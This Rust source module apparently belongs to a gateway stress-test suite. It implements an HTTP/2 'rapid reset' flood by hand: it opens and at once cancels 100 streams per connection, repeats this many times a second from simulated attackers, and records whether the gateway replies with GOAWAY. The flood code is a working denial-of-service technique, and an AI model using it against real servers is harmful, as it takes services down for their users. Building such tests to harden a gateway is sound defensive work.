//! Who opens HTTP/2 requests and takes them back at once, by the thousand: each costs the sender two frames, and a
//! gateway that does not count them a request. Frames by hand, since no client library sends them so.

use std::time::Duration;

use super::super::wire::Line;
use super::{Target, repeat, stranger};

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const END_HEADERS_AND_STREAM: u8 = 5;
/// `CANCEL`.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `GET / http h` by the static table and one literal.
const REQUEST: [u8; 6] = [0x82, 0x84, 0x86, 0x41, 1, b'h'];
/// Requests of one connection: about ten thousand a second from all attackers.
const STREAMS: u32 = 100;
const EVERY: Duration = Duration::from_millis(160);
/// Longest wait for what the gateway says to it.
const LISTENED: Duration = Duration::from_secs(2);

/// One connection after the other. An answer of status 0 stands for the frame that ends a connection with a reason.
pub(super) async fn resets(n: u64, target: Target) {
    let mut frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut frames, SETTINGS, 0, 0, &[]);
    for stream in (1..).step_by(2).take(STREAMS as usize) {
        frame(&mut frames, HEADERS, END_HEADERS_AND_STREAM, stream, &REQUEST);
        frame(&mut frames, RST_STREAM, 0, stream, &CANCEL);
    }
    let (target, frames) = (&target, &frames);
    repeat(EVERY, |_| async move {
        let Ok(mut line) = Line::open(target.address, stranger(n)).await else { return };
        if line.write(frames).await.is_err() {
            return target.told.heard(Err(std::io::ErrorKind::BrokenPipe.into()));
        }
        let listened = tokio::time::timeout(LISTENED, async {
            while line.more().await.is_ok() && !says_goodbye(line.unread()) {}
        });
        // Told why or simply cut, it ends either way.
        listened.await.ok();
        let end = if says_goodbye(line.unread()) {
            Ok(super::super::wire::Answer { status: 0, retry_after: false, closes: true })
        } else {
            Err(std::io::ErrorKind::UnexpectedEof.into())
        };
        target.told.heard(end);
    })
    .await;
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    out.extend([length[1], length[2], length[3], kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
}

/// Whether a frame among these ends the connection.
fn says_goodbye(mut frames: &[u8]) -> bool {
    while let [a, b, c, kind, rest @ ..] = frames {
        let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
        if *kind == GOAWAY {
            return true;
        }
        frames = rest.get(5 + length..).unwrap_or_default();
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_frame_that_ends_a_connection_is_found_behind_others() {
        let mut frames = Vec::new();
        frame(&mut frames, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]);
        assert!(!says_goodbye(&frames));
        frame(&mut frames, GOAWAY, 0, 0, &[0; 8]);
        assert!(says_goodbye(&frames));
        assert!(!says_goodbye(&frames[..15]));
    }
}
